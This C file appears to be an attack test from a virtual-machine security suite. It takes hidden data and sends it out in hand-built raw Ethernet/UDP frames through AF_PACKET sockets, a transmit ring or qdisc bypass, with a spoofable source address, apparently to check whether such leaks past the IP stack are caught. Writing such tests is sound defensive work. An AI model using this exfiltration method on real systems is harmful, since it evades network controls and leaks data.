// SPDX-License-Identifier: GPL-2.0
/*
 * packet.c - AF_PACKET: frames past the whole IP stack
 *
 * usage: packet before|held|unmapped raw|dgram|bypass|ring SOURCE ADDRESS MAC
 *
 * The data is obtained before the socket is made, when it is held (and its ring
 * mapped), or, unmapped, when the ring is made but not mapped yet. MAC is the
 * gateway's, the interface eth0.
 */
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>

#include "tests/vm/attack/attack.h"

#define PAYLOAD 1200
#define FRAME 2048
#define FRAMES 4

struct frame {
	struct ether_header ether;
	struct iphdr ip;
	struct udphdr udp;
	char bytes[PAYLOAD];
} __attribute__((packed));

static struct sockaddr_ll where = {
	.sll_family = AF_PACKET,
	.sll_halen = ETH_ALEN,
};
static struct frame frame;
static char *ring;
static int sock;

static unsigned short ip_sum(const void *head)
{
	const unsigned short *word = head;
	unsigned int sum = 0;

	for (int i = 0; i < 10; i++)
		sum += word[i];
	sum = (sum & 0xffff) + (sum >> 16);
	return ~(sum + (sum >> 16));
}

static void make_frame(const char *source, const char *address)
{
	memcpy(frame.ether.ether_dhost, where.sll_addr, ETH_ALEN);
	frame.ether.ether_shost[0] = 2;
	frame.ether.ether_type = htons(ETHERTYPE_IP);
	frame.ip.version = 4;
	frame.ip.ihl = 5;
	frame.ip.ttl = 64;
	frame.ip.protocol = IPPROTO_UDP;
	frame.ip.tot_len = htons(sizeof(frame) - sizeof(frame.ether));
	frame.ip.saddr = attack_addr(source).v4.sin_addr.s_addr;
	frame.ip.daddr = attack_addr(address).v4.sin_addr.s_addr;
	frame.ip.check = ip_sum(&frame.ip);
	frame.udp.source = frame.udp.dest = htons(ATTACK_PORT);
	frame.udp.len = htons(sizeof(frame.udp) + PAYLOAD);
	memcpy(frame.bytes, data.bytes, PAYLOAD);
}

static void make_ring(void)
{
	struct tpacket_req ask = {
		.tp_block_size = FRAME * FRAMES,
		.tp_block_nr = 1,
		.tp_frame_size = FRAME,
		.tp_frame_nr = FRAMES,
	};
	int version = TPACKET_V2;

	attack_do("version",
		  setsockopt(sock, SOL_PACKET, PACKET_VERSION, &version, sizeof(version)));
	attack_do("ring", setsockopt(sock, SOL_PACKET, PACKET_TX_RING, &ask, sizeof(ask)));
}

static void map_ring(void)
{
	ring = mmap(NULL, FRAME * FRAMES, PROT_READ | PROT_WRITE, MAP_SHARED, sock, 0);
	if (ring == MAP_FAILED)
		attack_do("mmap", -1);
}

static void send_ring(void)
{
	struct tpacket2_hdr *head = (void *)ring;

	memcpy(ring + TPACKET2_HDRLEN - sizeof(struct sockaddr_ll), &frame, sizeof(frame));
	head->tp_len = sizeof(frame);
	__sync_synchronize();
	head->tp_status = TP_STATUS_SEND_REQUEST;
	attack_do("sendto", sendto(sock, NULL, 0, 0, (struct sockaddr *)&where, sizeof(where)));
}

int main(int argc, char **argv)
{
	bool dgram, ringed, bypass;
	int one = 1;

	if (argc != 6)
		return 2;
	dgram = attack_is(argv, 2, "dgram");
	ringed = attack_is(argv, 2, "ring");
	bypass = attack_is(argv, 2, "bypass");
	sscanf(argv[5], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", where.sll_addr, where.sll_addr + 1,
	       where.sll_addr + 2, where.sll_addr + 3, where.sll_addr + 4, where.sll_addr + 5);
	where.sll_ifindex = if_nametoindex("eth0");
	where.sll_protocol = htons(ETHERTYPE_IP);

	if (attack_is(argv, 1, "before"))
		attack_obtain();
	sock = attack_do("socket", socket(AF_PACKET, dgram ? SOCK_DGRAM : SOCK_RAW, 0));
	if (bypass)
		attack_do("bypass",
			  setsockopt(sock, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)));
	if (ringed)
		make_ring();
	if (attack_is(argv, 1, "unmapped"))
		attack_obtain();
	if (ringed)
		map_ring();
	if (attack_is(argv, 1, "held"))
		attack_obtain();
	make_frame(argv[3], argv[4]);
	if (ringed)
		send_ring();
	else if (dgram)
		attack_do("sendto", sendto(sock, &frame.ip, sizeof(frame) - sizeof(frame.ether), 0,
					   (struct sockaddr *)&where, sizeof(where)));
	else
		attack_do("sendto", sendto(sock, &frame, sizeof(frame), 0,
					   (struct sockaddr *)&where, sizeof(where)));
	return attack_status;
}
